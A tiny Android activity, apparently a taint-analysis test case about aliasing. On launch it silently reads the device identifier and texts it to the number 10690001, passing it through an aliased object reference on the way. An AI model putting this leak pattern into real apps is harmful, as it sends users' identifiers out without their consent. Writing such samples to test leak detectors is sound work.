package cn.shanhai.alias;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    User first = new User();
    User second = first;
    first.id(Device.id(this));
    SmsManager.getDefault().sendTextMessage("10690001", null, second.id(), null, null);
  }
}
